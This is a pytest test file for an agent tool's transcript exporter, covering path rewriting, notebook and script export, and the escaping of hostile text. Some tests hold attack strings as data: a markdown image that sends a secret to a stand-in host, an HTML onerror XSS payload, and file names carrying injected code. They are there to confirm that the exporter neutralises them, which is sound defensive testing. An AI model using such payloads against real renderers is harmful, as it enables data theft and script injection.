"""Export without a sandbox: path rewriting, escaping hostile text, finding and reading records."""

from __future__ import annotations

import ast
import json

import nbformat
import pytest
from click.testing import CliRunner

from sbx.agent.cli.export import find_transcript
from sbx.agent.cli.main import cli
from sbx.agent.core.history import RecordError, read_record
from sbx.agent.export.code import LEFT_OVER_NOTE, header, rewrite_paths
from sbx.agent.export.common import markdown_text, png_bytes
from sbx.agent.export.formats import export
from sbx.agent.export.report import fenced
from sbx.tools.observation import section_of


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ('pd.read_csv("/data/sales.csv")', "pd.read_csv(str(DATA_DIR / 'sales.csv'))"),
        ("open(r'/data/dir/x.csv')", "open(str(DATA_DIR / 'dir/x.csv'))"),
        ("root = '/data'", "root = str(DATA_DIR)"),
        ("path = '/data/' + name", "path = (str(DATA_DIR) + '/') + name"),
        ("plt.savefig('/output/a.png', dpi=80)", "plt.savefig(str(OUTPUT_DIR / 'a.png'), dpi=80)"),
        ("x = '''/data/m.csv'''", "x = str(DATA_DIR / 'm.csv')"),
        ("x = '/database/x'", "x = '/database/x'"),  # another directory
        ("x = 'see /data/x'", "x = 'see /data/x'"),  # not a path literal
        ("# reads /data/a.csv\nx = 1", "# reads /data/a.csv\nx = 1"),  # comments stay
        ("print('saved /output/a.png')", "print('saved /output/a.png')"),
        ("d = {'/data/a.csv': 1}", "d = {str(DATA_DIR / 'a.csv'): 1}"),
    ],
)
def test_path_literals_under_data_and_output_are_rewritten(code, expected):
    assert rewrite_paths(code) == expected


@pytest.mark.parametrize(
    "code",
    ['x = f"/data/{name}"', "x = b'/data/a'", "x = '/data/' 'a.csv'", "if x:\n y = '/data/a'\n z("],
)
def test_what_cannot_be_rewritten_is_left_as_is_with_a_note(code):
    assert rewrite_paths(code) == LEFT_OVER_NOTE + code


def test_rewritten_code_still_parses_and_keeps_its_layout():
    code = "import pandas as pd\n\nif True:\n    s = pd.read_csv(\n        '/data/s.csv',\n    )\n"
    rewritten = rewrite_paths(code)
    ast.parse(rewritten)
    assert rewritten == code.replace("'/data/s.csv'", "str(DATA_DIR / 's.csv')")


def test_the_header_keeps_hostile_names_in_comments():
    text = header(source="run.jsonl\nimport os", run_ids=["r\rimport sys"],
                  digests={"a.csv\nos.system('x')": "abc\u2028import x"})
    statements = [ast.unparse(node) for node in ast.parse(text).body]
    assert statements == [
        "from pathlib import Path", "DATA_DIR = Path('.')", "OUTPUT_DIR = Path('output')",
        "OUTPUT_DIR.mkdir(exist_ok=True)",
    ]
    assert "a.csv\\nos.system('x')" in text


def test_markdown_text_has_no_html_no_links_and_no_images():
    hostile = "See ![x](https://evil.test/?d=secret) <img src=x onerror=alert(1)> [a](b) &amp;"
    shown = markdown_text(hostile + "\x1b[2J")
    assert "<" not in shown and "](" not in shown.replace("\\](", "")
    assert "\\!" not in shown and "!\\[x\\](https://evil.test/?d=secret)" in shown
    assert "&lt;img" in shown and "&amp;amp;" in shown and "\\x1b" in shown


def test_a_fence_is_longer_than_any_backtick_run_inside():
    text = "a ``` b\n````\nc"
    block = fenced(text, "text")
    assert block.startswith("`````text\n") and block.endswith("\n`````")


def test_only_regular_png_files_within_the_cap_are_embedded(tmp_path):
    png = tmp_path / "a.png"
    png.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 10)
    fake = tmp_path / "b.png"
    fake.write_bytes(b"not a png")
    link = tmp_path / "c.png"
    link.symlink_to(png)
    assert png_bytes(str(png)) is not None
    assert png_bytes(str(fake)) is None and png_bytes(str(link)) is None
    assert png_bytes(str(tmp_path / "missing.png")) is None


def _conversation(tmp_path):
    """A hand-written transcript of two runs, the second using the first one's variable."""
    def reply(call_id, code):
        call = {"id": call_id, "type": "function",
                "function": {"name": "execute_python", "arguments": json.dumps({"code": code})}}
        return {"type": "model_reply", "turn": 1, "message": {"role": "assistant",
                                                              "tool_calls": [call]}}

    def result(call_id, stdout):
        return {"type": "tool_result", "turn": 1, "call_id": call_id, "name": "execute_python",
                "status": "ok", "failed": False, "content": f"[stdout]\n{stdout}",
                "execution": {"stdout": stdout + "\n"}}

    events = [
        {"type": "conversation_start", "conversation_id": "conv-1", "principal": "os:t"},
        {"type": "run_start", "run_id": "run-a", "question": "Set x", "data": [],
         "data_sha256": {}},
        reply("c1", "x = 40\nprint(x)"), result("c1", "40"),
        {"type": "run_end", "run_id": "run-a", "status": "completed", "answer": "x is 40",
         "verified": True, "sources": [{"number": "40", "execution": 1, "line": 1,
                                         "text": "40"}]},
        {"type": "run_start", "run_id": "run-b", "question": "Add 2"},
        reply("c1", "print(x + 2)"), result("c1", "42"),  # the model reused its call id
        {"type": "run_end", "run_id": "run-b", "status": "completed", "answer": "42"},
    ]
    path = tmp_path / "sbx-runs" / "conv-1.jsonl"
    path.parent.mkdir()
    path.write_text("".join(json.dumps(e) + "\n" for e in events))
    return path


def test_a_run_id_finds_its_conversation_which_is_read_up_to_that_run(tmp_path):
    path = _conversation(tmp_path)
    assert find_transcript(str(path), tmp_path / "sbx-runs") == (path, None)
    assert find_transcript("run-a", tmp_path / "sbx-runs") == (path, "run-a")
    record = read_record(path, until_run="run-a")
    assert [run.run_id for run in record.runs] == ["run-a"]
    both = read_record(path)
    assert [[e.code for e in run.executions] for run in both.runs] == [
        ["x = 40\nprint(x)"], ["print(x + 2)"]
    ]
    with pytest.raises(RecordError, match="no run 'run-z'"):
        read_record(path, until_run="run-z")


def test_a_conversation_exports_as_one_notebook_in_order(tmp_path):
    notebook = nbformat.reads(export(read_record(_conversation(tmp_path)), "ipynb"), 4)
    nbformat.validate(notebook)
    kinds = [(c.cell_type, c.get("execution_count")) for c in notebook.cells]
    assert kinds == [("code", None), ("markdown", None), ("code", 1), ("markdown", None),
                     ("markdown", None), ("code", 2), ("markdown", None)]
    assert notebook.cells[3].source.startswith("### Answer\n\nx is 40\n\n**Verified**")


def test_the_cli_exports_a_run_by_its_id_from_sbx_runs(tmp_path, monkeypatch):
    _conversation(tmp_path)
    monkeypatch.chdir(tmp_path)
    outcome = CliRunner().invoke(cli, ["export", "run-a", "--format", "py"])
    assert outcome.exit_code == 0, outcome.output
    assert "x = 40\nprint(x)" in outcome.stdout and "print(x + 2)" not in outcome.stdout
    compile(outcome.stdout, "export.py", "exec")


def test_an_older_transcript_gives_its_output_from_the_observation():
    observation = "Error: KeyError: 'a'\nTraceback...\n[stdout]\n1\n2\n[stderr]\nwarn\n[notes]\n- x"
    assert section_of(observation, "[stdout]") == "1\n2\n"
    assert section_of(observation, "[stderr]") == "warn\n"
    assert section_of("[stdout]\n5\n[resources] 0.1 s wall", "[stdout]") == "5\n"
    assert section_of("no sections", "[stdout]") == ""
